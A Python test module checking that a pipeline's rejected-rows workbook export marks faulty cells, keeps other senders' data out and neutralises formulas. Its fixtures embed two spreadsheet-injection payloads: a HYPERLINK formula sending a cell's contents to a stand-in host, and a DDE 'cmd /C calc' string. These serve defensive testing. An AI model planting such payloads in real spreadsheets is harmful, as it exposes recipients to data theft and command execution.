"""What a sender gets back: their own rows, faulty cells marked, a list with links, nothing that a spreadsheet runs."""

from __future__ import annotations

import re
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import python_calamine
from lxml import etree
from typer.testing import CliRunner

from orchestration.cli import app
from orchestration.rejected_workbook import write_rejected
from tests.returns.writers import xlsx

pytestmark = pytest.mark.full

FORMULA = '=HYPERLINK("http://example.invalid/?"&A1)'
LINK = "@SUM(1+1)*cmd|' /C calc'!A0"
HEADER = "region_code,region,indicator,period,value,unit,source"
OWN_ROWS = f"""{HEADER}
520200,六盘水市,技术合同成交额,2020,18.69,亿元,合成年鉴2021
520200,六盘水市,技术合同成交额,某年,19.1,亿元,合成年鉴2021
520200,{FORMULA},R&D经费投入强度,2020,0.89,%,合成年鉴2021
520200,六盘水市,{LINK},2020,约7左右,%,合成年鉴2021
"""
WORKBOOK = {
    "各县（合成）": [
        ["六盘水市各县R&D经费内部支出（2020年，合成）"],
        ["单位：万元"],
        ["地区", "R&D经费内部支出"],
        ["钟山区", 1500.5],
        ["不知何处县", 77],
        ["盘州市", "#REF!"],
    ]
}
SECRET = "918273.64"


@pytest.fixture(scope="module")
def night(tmp_path_factory: pytest.TempPathFactory, run_a_night: Callable[..., Any]) -> Any:
    """Two senders: one with a table, a workbook and a file that cannot be opened, the other with a slip of its own."""
    folder = tmp_path_factory.mktemp("rejected")
    own, other = folder / "landing" / "六盘水", folder / "landing" / "贵阳"
    for place in (own, other):
        place.mkdir(parents=True)
    (own / "rows.csv").write_text(OWN_ROWS, encoding="utf-8")
    (own / "counties.xlsx").write_bytes(xlsx(WORKBOOK))
    (own / "broken.xlsx").write_bytes(xlsx(WORKBOOK)[:900])
    (other / "rows.csv").write_text(
        f"{HEADER}\n520100,贵阳市,技术合同成交额,2020,{SECRET},亿元,合成年鉴2021\n520100,贵阳市,GDP,某年,1,亿元,合成年鉴2021\n",
        encoding="utf-8",
    )
    done = run_a_night(folder / "home", (folder / "landing",))
    assert done.exit_code == 0, done.record.message
    return done


@pytest.fixture(scope="module")
def book(night: Any, tmp_path_factory: pytest.TempPathFactory) -> Path:
    target = tmp_path_factory.mktemp("book") / "六盘水.xlsx"
    count, files = write_rejected(night.home, target, "六盘水")
    assert files == ("六盘水/broken.xlsx", "六盘水/counties.xlsx", "六盘水/rows.csv")
    assert count == 6
    return target


def _rows(book: Path, sheet: str) -> list[list[Any]]:
    return (
        python_calamine.CalamineWorkbook.from_path(str(book)).get_sheet_by_name(sheet).to_python(skip_empty_area=False)
    )


def _parts(book: Path) -> dict[str, str]:
    with zipfile.ZipFile(book) as package:
        return {name: package.read(name).decode() for name in package.namelist() if name.endswith((".xml", ".rels"))}


def test_the_first_sheet_lists_every_refusal_with_its_remedy(book: Path) -> None:
    head, rows = _rows(book, "拒收清单")[2], _rows(book, "拒收清单")[3:]
    listed = [dict(zip(head, row, strict=True)) for row in rows]

    assert [(row["文件"], row["位置"], row["原因代码"]) for row in listed] == [
        ("六盘水/broken.xlsx", "整个文件", "unreadable_file"),
        ("六盘水/counties.xlsx", "各县（合成）!B5", "unknown_region"),
        ("六盘水/counties.xlsx", "各县（合成）!B6", "formula_error"),
        ("六盘水/rows.csv", "E3", "bad_period"),
        ("六盘水/rows.csv", "E4", "region_mismatch"),
        ("六盘水/rows.csv", "E5", "not_a_number"),
    ]
    assert all(re.search("[\u4e00-\u9fff]{4}", row["原因"]) for row in listed)
    assert all(re.search("[\u4e00-\u9fff]{4}", row["处理办法"]) for row in listed)
    assert {row["处理方"] for row in listed} == {"报送单位"}


def test_the_rows_stand_as_they_were_delivered(book: Path) -> None:
    sheets = python_calamine.CalamineWorkbook.from_path(str(book)).sheet_names
    assert sheets == ["拒收清单", "2.各县（合成）", "3.数据"]
    counties = _rows(book, "2.各县（合成）")
    assert counties[3] == ["钟山区", "1500.5"]  # as text: nothing is rounded anew
    assert counties[4] == ["不知何处县", "77"]
    assert _rows(book, "3.数据")[1] == ["520200", "六盘水市", "技术合同成交额", "2020", "18.69", "亿元", "合成年鉴2021"]


def test_the_faulty_cells_are_marked_and_the_list_leads_to_them(book: Path) -> None:
    parts = _parts(book)
    comments = {name: text for name, text in parts.items() if re.fullmatch(r"xl/comments\d+\.xml", name)}
    marked = {
        comment.get("ref"): "".join(comment.itertext())
        for text in comments.values()
        for comment in etree.fromstring(text.encode()).iter("{*}comment")
    }
    assert set(marked) == {"B5", "B6", "E3", "E4", "E5"}
    assert "不知何处县" in marked["B5"]
    assert "处理办法" in marked["E3"]
    for sheet, cells in (("sheet2", ("B5", "B6")), ("sheet3", ("E3", "E4", "E5"))):
        styles = dict(re.findall(r'<c r="([A-Z]+\d+)" s="(\d+)"', parts[f"xl/worksheets/{sheet}.xml"]))
        assert set(styles) == set(cells), "filled are the faulty cells and no others"
    links = re.findall(r'<hyperlink ref="(C\d+)" location="([^"]+)"', parts["xl/worksheets/sheet1.xml"])
    assert [location for _, location in links] == [
        "'2.各县（合成）'!B5",
        "'2.各县（合成）'!B6",
        "'3.数据'!E3",
        "'3.数据'!E4",
        "'3.数据'!E5",
    ]


def test_nothing_of_another_sender_is_in_the_workbook(book: Path) -> None:
    text = "".join(_parts(book).values())
    assert SECRET not in text
    assert "贵阳" not in text


def test_no_text_of_a_sender_is_a_formula(book: Path) -> None:
    parts = _parts(book)
    assert not [name for name, text in parts.items() if "worksheets/" in name and "<f>" in text]
    assert _rows(book, "3.数据")[3][1] == f"'{FORMULA}"
    assert _rows(book, "3.数据")[4][2] == f"'{LINK}"
    assert "externalLink" not in "".join(parts)


def test_the_command_asks_whose_file_it_shall_be(night: Any, tmp_path: Path) -> None:
    run = CliRunner().invoke
    home = ["--home", str(night.home.root)]
    target = tmp_path / "out.xlsx"

    unclear = run(app, ["rejected", "export", str(target), *home])
    assert unclear.exit_code == 1
    assert not target.exists()
    assert "--source" in unclear.output
    assert run(app, ["rejected", "export", str(target), "--source", "no_such_file.csv", *home]).exit_code == 1
    assert run(app, ["rejected", "export", str(tmp_path / "out.csv"), *home]).exit_code == 2
    done = run(app, ["rejected", "export", str(target), "--source", "贵阳/rows.csv", *home])
    assert done.exit_code == 0, done.output
    assert python_calamine.CalamineWorkbook.from_path(str(target)).sheet_names == ["拒收清单", "数据"]


def test_tables_for_programs_are_inert_too(night: Any, tmp_path: Path) -> None:
    run = CliRunner().invoke
    query = "select raw_text from quality.rejected where raw_text like '%HYPERLINK%'"
    listed = run(
        app,
        ["sql", f"select substr(raw_text, 8) as raw from ({query})", "--format", "csv", "--home", str(night.home.root)],
    )
    assert listed.exit_code == 0, listed.output
    assert "\"'=HYPERLINK" in listed.output
    file = tmp_path / "rows.csv"
    file.write_text(f"{HEADER}\n520200,六盘水市,{LINK},2020,-0.7,%,合成年鉴2021\n", encoding="utf-8")
    read = run(app, ["extract", str(file), "--format", "csv"])
    assert read.exit_code == 0, read.output
    assert f"'{LINK}" in read.output
    assert ",-0.7," in read.output
